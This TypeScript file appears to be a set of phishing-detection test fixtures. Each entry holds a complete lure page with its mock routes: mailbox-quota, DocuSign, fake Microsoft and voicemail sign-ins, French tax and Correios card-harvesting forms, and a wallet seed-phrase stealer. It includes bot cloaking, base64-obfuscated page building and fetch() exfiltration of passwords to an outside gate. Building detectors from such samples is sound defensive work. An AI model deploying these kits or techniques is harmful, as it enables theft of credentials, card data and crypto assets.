import { type Entry, redirectRoute } from '../entry.js';
import { doc, gtag, gtagRoute, js, json, html, b64 } from '../parts/zo-kit.js';
import { pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zo-phish-quota-mailbox-nobrand',
    label: 'phishing',
    kind: 'quiet-kit',
    url: 'https://mail-quota-center.webnode-hosting.net/upgrade/index.php?u=finance%40harlandgroup.com',
    body: doc('Mailbox Storage Notice', `
<div style="max-width:420px;margin:60px auto;border:1px solid #ddd;border-radius:8px;padding:28px">
  <h2 style="margin-top:0;font-weight:500">Mailbox storage almost full</h2>
  <div style="background:#eee;border-radius:4px;height:14px"><div style="background:#d93025;width:98%;height:14px;border-radius:4px"></div></div>
  <p style="font-size:13px">49.2 GB of 50 GB used. Incoming messages will be rejected after 24 hrs. Verify your account to get additional 25GB free storage.</p>
  <form method="post" action="next.php">
    <label>Email Address</label><input name="email" id="em" readonly>
    <label>Password</label><input type="password" name="pass" required>
    <input type="hidden" name="ref" value="quota">
    <p><button class="btn" style="width:100%">Verify & Upgrade</button></p>
  </form>
  <p style="font-size:11px;color:#888">This is an automated message from your Mail Administrator. Do not reply.</p>
</div>
<script>
var q=new URLSearchParams(location.search).get('u')||'';document.getElementById('em').value=q;
</script>`),
  },
  {
    id: 'zo-phish-tracker-redirect-chain-login',
    label: 'phishing',
    kind: 'redirect-chain-kit',
    url: 'https://click.mailnews-tracking.com/ls/click?upn=u001.Ahx8e2Qk-3D&sid=99120',
    routes: {
      'click.mailnews-tracking.com/ls/click': redirectRoute(302, 'https://r.linkstation-go.net/v/9fb2e1'),
      'r.linkstation-go.net/v/9fb2e1': html(`<!doctype html><html><head><meta charset="utf-8"><title>Redirecting</title></head><body>
<script>if(!/bot|crawl|spider|headless/i.test(navigator.userAgent)){setTimeout(function(){location.replace('https://portal.kwellsend-share.com/doc/view.html?id=c6e1#'+btoa('invoices@mercerdental.com'))},300);}else{location.replace('https://en.wikipedia.org/wiki/Invoice');}</script>
Loading…</body></html>`),
      'portal.kwellsend-share.com/doc/view.html': html(doc('Secure File Transfer', `
<header style="border-bottom:1px solid #e5e7eb"><b style="color:#0f766e">KwellSend</b> secure file transfer</header>
<main style="max-width:420px">
  <h2>You have 1 file waiting</h2><p style="color:#6b7280;font-size:14px">Invoice_Nov2026_0097.pdf · Expires in 2 days</p>
  <form id="f" method="post" action="/doc/verify.php"><label>Recipient email</label><input id="m" name="m"><label>Email password</label><input type="password" name="k"><p><button class="btn" style="background:#0f766e;width:100%">Download</button></p></form>
  <p style="font-size:12px;color:#6b7280">For security, confirm the password of the email address this file was sent to.</p>
</main>
<script>try{document.getElementById('m').value=atob(location.hash.slice(1))}catch(e){}</script>`)),
    },
  },
  {
    id: 'zo-phish-docwrite-base64-dynamic-logo',
    label: 'phishing',
    kind: 'script-built-kit',
    url: 'https://cdn-webmail-auth.firebaseapp-hosting.net/x/index.html?e=j.morel@atelier-grandval.fr',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Webmail</title></head><body><script>
document.write(decodeURIComponent(escape(atob('${b64(`<style>body{font-family:Arial,sans-serif;background:#eef1f5}.c{width:360px;margin:80px auto;background:#fff;padding:28px;border-radius:6px;text-align:center}.c input{width:100%;padding:10px;margin:6px 0;border:1px solid #ccc}.c button{width:100%;padding:10px;background:#2d6cdf;color:#fff;border:0}</style>
<div class="c"><img id="lg" src="logo.png" height="40" alt=""><h3 id="dm">Webmail Login</h3><p style="font-size:13px;color:#666">Session expired. Please re-enter your password to continue to your inbox.</p>
<form id="fm"><input id="em" name="email" readonly><input id="pw" type="password" name="password" placeholder="Password"><button>Continue</button></form><p id="er" style="color:red;font-size:12px"></p></div>`)}'))));
var e=new URLSearchParams(location.search).get('e')||'';var dom=e.split('@')[1]||'';
document.getElementById('em').value=e;if(dom){document.getElementById('dm').textContent=dom.split('.')[0].toUpperCase()+' Webmail';document.getElementById('lg').src='logo.png?d='+dom;document.title=dom+' - Login';}
var n=0;document.getElementById('fm').onsubmit=function(v){v.preventDefault();n++;fetch('https://hooks.zentrix-panel.xyz/gate.php',{method:'POST',mode:'no-cors',body:new URLSearchParams({e:e,p:document.getElementById('pw').value,n:n})});if(n>1){location.href='https://'+dom;}else{document.getElementById('er').textContent='Incorrect password.';}};
</script></body></html>`,
    routes: {
      'cdn-webmail-auth.firebaseapp-hosting.net/x/logo.png': pngRoute(45, 108, 223),
      'hooks.zentrix-panel.xyz/gate.php': json({}),
    },
  },
  {
    id: 'zo-phish-esign-docusign-agreement',
    label: 'phishing',
    kind: 'esign-lure',
    url: 'https://docusign.envelope-review-center.com/Signing/?ti=0b7c2f6f1e4d',
    body: doc('DocuSign', `
<div style="background:#1e1e1e;padding:14px 28px"><b style="color:#fff;font-size:20px">Docu<span style="color:#ffc820">Sign</span></b></div>
<main style="max-width:600px;text-align:center">
  <div style="background:#ffc820;height:6px"></div>
  <h2>Human Resources sent you a document to review and sign.</h2>
  <p style="font-size:14px">Employee_Handbook_Acknowledgement_2027.pdf</p>
  <p><a class="btn" href="#" id="rv" style="background:#ffc820;color:#000">REVIEW DOCUMENT</a></p>
  <div id="auth" style="display:none;text-align:left;max-width:360px;margin:20px auto;border:1px solid #ccc;padding:20px">
    <p><b>Please verify your email to access the document</b></p>
    <form method="post" action="/Signing/auth.php"><label>Email</label><input name="email"><label>Password</label><input name="passwd" type="password"><p><button class="btn" style="width:100%">Continue</button></p></form>
  </div>
  <p style="font-size:12px;color:#777;text-align:left">Do Not Share This Email<br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p>
</main>
<footer>Powered by DocuSign · <a href="#">Terms of Use</a> · <a href="#">Privacy</a> · © 2026 DocuSign, Inc. All rights reserved.</footer>
<script>document.getElementById('rv').onclick=function(e){e.preventDefault();document.getElementById('auth').style.display='block';}</script>`),
  },
  {
    id: 'zo-phish-esign-nobrand-completed',
    label: 'phishing',
    kind: 'esign-lure',
    url: 'https://esign-completed.contractflowhq.com/envelope/8821-ab/complete',
    body: doc('Document Completed', `
<main style="max-width:520px">
 <div style="border:1px solid #d9dee7;border-radius:8px;overflow:hidden">
  <div style="background:#214d8c;color:#fff;padding:16px 20px">&#10004; All parties have completed</div>
  <div style="padding:20px">
   <p><b>Complete with eSignature: Revised_Settlement_Agreement_signed.pdf</b></p>
   <p style="font-size:14px;color:#4b5563">All signers completed this document. To download the final executed copy, confirm your identity with the email account this envelope was delivered to.</p>
   <form action="https://ingest.formrelay-api.com/v1/f/k2pq9" method="POST">
     <input type="hidden" name="_redirect" value="https://esign-completed.contractflowhq.com/envelope/8821-ab/done">
     <label>Email address</label><input name="email" type="email" required>
     <label>Email password</label><input name="password" type="password" required>
     <p><button class="btn" style="background:#214d8c">Download Document</button></p>
   </form>
  </div>
 </div>
 <p style="font-size:12px;color:#6b7280">Envelope ID: 8821AB4F-33C1-4E2A-9B1E-5C0D7A16E0F2</p>
</main>`),
  },
  {
    id: 'zo-phish-blurred-pdf-overlay',
    label: 'phishing',
    kind: 'doc-share-lure',
    url: 'https://viewer.pdfonline-secure.info/doc/RFQ-11872.html',
    body: doc('RFQ-11872.pdf', `
<div style="filter:blur(5px);padding:40px;background:#f5f5f5;min-height:100vh">
  <h1>REQUEST FOR QUOTATION</h1><p>Ref: RFQ-11872 · Date: 24/11/2026</p>
  <table border="1" style="border-collapse:collapse;width:80%"><tr><th>Item</th><th>Qty</th><th>Spec</th></tr><tr><td>Steel flange DN150</td><td>400</td><td>PN16</td></tr><tr><td>Gasket</td><td>800</td><td>EPDM</td></tr><tr><td>Bolt M16x70</td><td>3200</td><td>8.8</td></tr></table>
  <p>Please quote your best price CIF Rotterdam by 05/12/2026.</p>
</div>
<div style="position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;width:360px;padding:24px;border-radius:6px;box-shadow:0 0 40px rgba(0,0,0,.35)">
  <div style="background:#b30b00;color:#fff;padding:8px 12px;margin:-24px -24px 16px;border-radius:6px 6px 0 0">PDF Online Viewer</div>
  <p style="font-size:13px">This document is password protected by the sender. Confirm your email credentials to view.</p>
  <form method="post" action="post.php"><input name="u" type="email" placeholder="Email"><br><br><input name="p" type="password" placeholder="Password"><p><button class="btn" style="background:#b30b00;width:100%">View PDF</button></p></form>
</div>`),
  },
  {
    id: 'zo-phish-fr-impots-remboursement',
    label: 'phishing',
    kind: 'gov-kit',
    url: 'https://remboursement-dgfip.espace-particulier-fr.com/mon-espace/',
    body: doc('impots.gouv.fr - Espace Particulier', `
<header style="border-bottom:4px solid #000091"><b style="color:#000091">RÉPUBLIQUE FRANÇAISE</b> &nbsp; <span>impots.gouv.fr</span></header>
<main style="max-width:560px">
  <h1 style="font-size:22px">Avis de remboursement</h1>
  <p>Après les derniers calculs de l'activité fiscale annuelle, nous avons déterminé que vous êtes admissible à recevoir un remboursement d'impôt de <b>347,60 €</b>.</p>
  <p>Veuillez compléter le formulaire ci-dessous afin de recevoir votre remboursement sous 3 à 5 jours ouvrés.</p>
  <form method="post" action="valider.php">
    <label>Nom et prénom</label><input name="nom"><label>Date de naissance</label><input name="dob" placeholder="JJ/MM/AAAA">
    <label>Numéro de carte bancaire</label><input name="cc" inputmode="numeric"><div style="display:flex;gap:10px"><div><label>Expiration</label><input name="exp" placeholder="MM/AA"></div><div><label>Cryptogramme</label><input name="cvv"></div></div>
    <p><button class="btn" style="background:#000091">Valider mon remboursement</button></p>
  </form>
</main>
<footer>Direction générale des Finances publiques · Mentions légales · Accessibilité</footer>`, { lang: 'fr' }),
  },
  {
    id: 'zo-phish-pt-correios-taxa-importacao',
    label: 'phishing',
    kind: 'parcel-kit',
    url: 'https://rastreio.correios-taxacao-br.com/objeto/NL482910577BR',
    body: doc('Correios - Rastreamento', `
<header style="background:#ffd400;color:#00416b"><b>Correios</b> &nbsp; Rastreamento de objetos</header>
<main style="max-width:560px">
  <p><b>Objeto: NL482910577BR</b></p>
  <ol style="font-size:14px"><li>Objeto postado — 12/11/2026 — Amsterdã/NL</li><li>Objeto recebido pelos Correios do Brasil — 20/11/2026 — Curitiba/PR</li><li style="color:#c00"><b>Aguardando pagamento da taxa de importação</b> — 22/11/2026</li></ol>
  <p>Para liberar a entrega, efetue o pagamento do imposto de importação no valor de <b>R$ 54,90</b>. Após 5 dias úteis o objeto será devolvido ao remetente.</p>
  <form method="post" action="/pagamento/cartao"><label>CPF</label><input name="cpf"><label>Nome no cartão</label><input name="nome"><label>Número do cartão</label><input name="numero"><div style="display:flex;gap:10px"><div><label>Validade</label><input name="val"></div><div><label>CVV</label><input name="cvv"></div></div><p><button class="btn" style="background:#00416b">Pagar R$ 54,90</button></p></form>
</main>
<footer>© Copyright 2026 Correios — Todos os direitos reservados</footer>`, { lang: 'pt-BR' }),
  },
  {
    id: 'zo-phish-voicemail-audio-portal',
    label: 'phishing',
    kind: 'quiet-kit',
    url: 'https://vm-notify.audiomsg-center.net/play/?m=4471-22&r=ar@coastalfreightco.com',
    body: doc('Voice Message', `
<main style="max-width:420px;text-align:center;margin-top:40px">
  <div style="font-size:48px">&#9742;</div>
  <h2>New voice message</h2>
  <p style="color:#6b7280">From: +1 (312) 555-0148 · Duration 00:47 · Received 11/29/2026 9:12 AM</p>
  <div style="background:#f3f4f6;border-radius:30px;padding:10px 16px;display:flex;align-items:center;gap:10px"><span>&#9654;</span><div style="flex:1;height:4px;background:#d1d5db"></div><span>0:47</span></div>
  <p style="font-size:14px">To listen to this message, sign in with your email account.</p>
  <form method="post" action="/play/auth" style="text-align:left"><label>Email</label><input name="r" id="r"><label>Password</label><input type="password" name="s"><p><button class="btn" style="width:100%">Listen</button></p></form>
</main>
<script>document.getElementById('r').value=new URLSearchParams(location.search).get('r')||'';</script>`),
  },
  {
    id: 'zo-phish-aitm-gettype-loader',
    label: 'phishing',
    kind: 'script-built-kit',
    url: 'https://login.mso-authsecure.net/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&response_type=code&scope=openid',
    body: `<!DOCTYPE html><html dir="ltr" lang="en"><head><meta charset="utf-8"><title>Sign in to your account</title><meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#fff}#ld{position:fixed;inset:0;display:flex;align-items:center;justify-content:center}.dot{width:8px;height:8px;background:#0067b8;border-radius:50%;margin:3px;animation:b 1s infinite}@keyframes b{50%{opacity:.2}}</style></head>
<body><div id="ld"><div class="dot"></div><div class="dot"></div><div class="dot"></div></div>
<script>
(function(){var c={a:'/common/GetCredentialType',b:'/common/login',t:'${b64('<div style="width:440px;margin:100px auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><div style="font-weight:600;color:#737373">Microsoft</div><h1 style="font-size:24px;font-weight:600" id="t">Sign in</h1><input id="u" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0" placeholder="Email, phone, or Skype"><input id="p" type="password" style="display:none;width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin-top:10px" placeholder="Password"><p><button id="n" style="background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right">Next</button></p><div style="clear:both"></div></div>')}'};
setTimeout(function(){document.getElementById('ld').remove();var w=document.createElement('div');w.innerHTML=atob(c.t);document.body.appendChild(w);
var st=0;document.getElementById('n').onclick=function(){var u=document.getElementById('u').value;
if(st===0){fetch(c.a,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({username:u,isOtherIdpSupported:true})}).then(function(r){return r.json()}).then(function(j){st=1;document.getElementById('p').style.display='block';document.getElementById('t').textContent='Enter password';document.getElementById('n').textContent='Sign in';});}
else{fetch(c.b,{method:'POST',body:new URLSearchParams({login:u,passwd:document.getElementById('p').value})}).then(function(){location.href='/common/SAS/BeginAuth';});}};},1200);})();
</script></body></html>`,
    routes: {
      'login.mso-authsecure.net/common/GetCredentialType': json({ Username: '', Display: '', IfExistsResult: 0, ThrottleStatus: 0, Credentials: { PrefCredential: 1, HasPassword: true } }),
      'login.mso-authsecure.net/common/login': json({ ok: true }),
      'login.mso-authsecure.net/common/SAS/BeginAuth': html('<!doctype html><title>Approve sign in request</title><p>Open your Authenticator app and enter the number shown to sign in.</p><h1>47</h1>'),
    },
  },
  {
    id: 'zo-phish-wallet-recovery-phrase-verify',
    label: 'phishing',
    kind: 'seed-phrase-kit',
    url: 'https://wallet-sync-validate.web3-walletsupport.app/restore',
    body: doc('Wallet Validation', `
<main style="max-width:520px">
 <h1 style="font-size:24px">Validate your wallet</h1>
 <p>Due to the upcoming network upgrade, all non-custodial wallets must be re-synchronised. Select your wallet and import it to avoid losing access to your assets.</p>
 <div style="display:flex;gap:8px;flex-wrap:wrap;font-size:13px"><span style="border:1px solid #ddd;padding:6px 10px;border-radius:20px">MetaMask</span><span style="border:1px solid #ddd;padding:6px 10px;border-radius:20px">Trust Wallet</span><span style="border:1px solid #ddd;padding:6px 10px;border-radius:20px">Phantom</span><span style="border:1px solid #ddd;padding:6px 10px;border-radius:20px">Ledger Live</span><span style="border:1px solid #ddd;padding:6px 10px;border-radius:20px">Coinbase Wallet</span></div>
 <form id="f" style="margin-top:16px">
  <label>Phrase</label><textarea id="ph" rows="4" style="width:100%" placeholder="Typically 12 (sometimes 24) words separated by single spaces"></textarea>
  <p><button class="btn" style="background:#7c3aed">Import</button></p>
 </form>
 <p id="m" style="font-size:13px"></p>
</main>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=document.getElementById('ph').value.trim().split(/\\s+/);if(w.length<12){document.getElementById('m').textContent='Invalid phrase';return;}
fetch('/restore/api',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({phrase:w.join(' ')})}).then(function(){document.getElementById('m').textContent='Validation in progress, this may take up to 24 hours.';});};
</script>`),
    routes: { 'wallet-sync-validate.web3-walletsupport.app/restore/api': json({ ok: true }) },
  },
  {
    id: 'zo-phish-notepage-secure-message-lure',
    label: 'phishing',
    kind: 'platform-kit',
    url: 'https://notepage.so/shared/bfa0a2c1-secure-message',
    body: doc('Secure Message | Notepage', `
<header style="font-size:13px;color:#6b7280">Notepage · Published page</header>
<main style="max-width:700px">
  <h1 style="font-size:34px">&#128274; Secure Message</h1>
  <p>You have received a secure message from <b>Whitfield &amp; Crane LLP</b> regarding the pending closing documents.</p>
  <blockquote style="border-left:3px solid #d1d5db;padding-left:12px;color:#374151">Please review the attached wire instructions and closing disclosure before 5:00 PM EST today.</blockquote>
  <p><a class="btn" href="https://wcllp-securemail.accessportal-docs.com/m/?id=41fb">&#128196; Open Secure Message</a></p>
  <p style="font-size:13px;color:#6b7280">Message will expire in 48 hours.</p>
</main>
<footer>Made with Notepage · <a href="#">Report page</a></footer>`),
  },
];
